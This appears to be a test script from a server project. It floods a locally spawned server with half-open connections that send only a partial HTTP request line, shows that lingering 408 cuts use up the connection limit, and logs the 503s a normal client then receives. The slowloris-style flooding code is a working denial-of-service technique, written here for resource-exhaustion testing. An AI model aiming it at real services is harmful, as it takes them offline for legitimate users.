"""Half-open connections past --max-handshakes are cut with a 408 that
lingers up to --close-timeout-ms. An attacker that opens connections fast
enough (and keeps each socket open, never sending a full head) fills
--max-connections with lingering 408s: every polite client then gets 503.

Run: python3 linger_408_slots.py RATE SECONDS [server flags...]
  e.g. python3 linger_408_slots.py 500 12 --max-connections 2000 --max-handshakes 100
Each attacker socket sends "GET / HTTP/1.1\r\n" and is closed by us HOLD (env, default 6) s after it was opened.
"""
import collections, sys, threading, time
from wslib import *

raise_nofile(20000)
rate = float(sys.argv[1]); seconds = float(sys.argv[2])
HOLD = float(os.environ.get("HOLD", "6.0"))  # seconds each attacker socket is kept open
srv = Server(*sys.argv[3:], log_name="linger_408_slots.log")
open_socks = collections.deque()
stop = False
opened = [0]
maxheld = [0]

def attacker():
    start = time.time(); n = 0
    while not stop and time.time() - start < seconds:
        due = start + n / rate
        now = time.time()
        if now < due: time.sleep(due - now)
        try:
            s = socket.socket(); s.setblocking(False)
            s.connect_ex(srv.addr)
            try: s.send(b"GET / HTTP/1.1\r\n")
            except OSError: pass
            open_socks.append((time.time(), s)); n += 1; opened[0] = n
        except OSError as e:
            print("attacker:", e); time.sleep(0.01)
        while open_socks and time.time() - open_socks[0][0] > HOLD:
            open_socks.popleft()[1].close()
        maxheld[0] = max(maxheld[0], len(open_socks))

results = []
def polite():
    while not stop:
        t0 = time.time()
        try:
            c = Client(srv, timeout=5)
            st = c.status_line.split()[1]
            c.close()
        except Exception as e:
            st = type(e).__name__
        results.append((round(t0 - T0, 2), st, round(time.time() - t0, 3)))
        time.sleep(0.25)

T0 = time.time()
ta = threading.Thread(target=attacker, daemon=True); ta.start()
tp = threading.Thread(target=polite, daemon=True); tp.start()
ta.join()
time.sleep(1)
stop = True
tp.join(6)
counts = collections.Counter(r[1] for r in results)
report("polite client (a full upgrade every 0.25 s) during the attack",
       attacker_opened=opened[0], attacker_max_concurrent=maxheld[0],
       answers=dict(counts), first_503_at_s=next((r[0] for r in results if r[1] == "503"), None),
       timeline=[(r[0], r[1]) for r in results][::4])
while open_socks: open_socks.popleft()[1].close()
lines = srv.log_lines()
report("server log", lines=len(lines),
       cut_lines=sum(" cut: " in l for l in lines), refused_503=sum("refused:" in l for l in lines),
       sample=[l for l in lines if "refused" in l or " cut: " in l][:2], peak=srv.peak())
srv.stop()
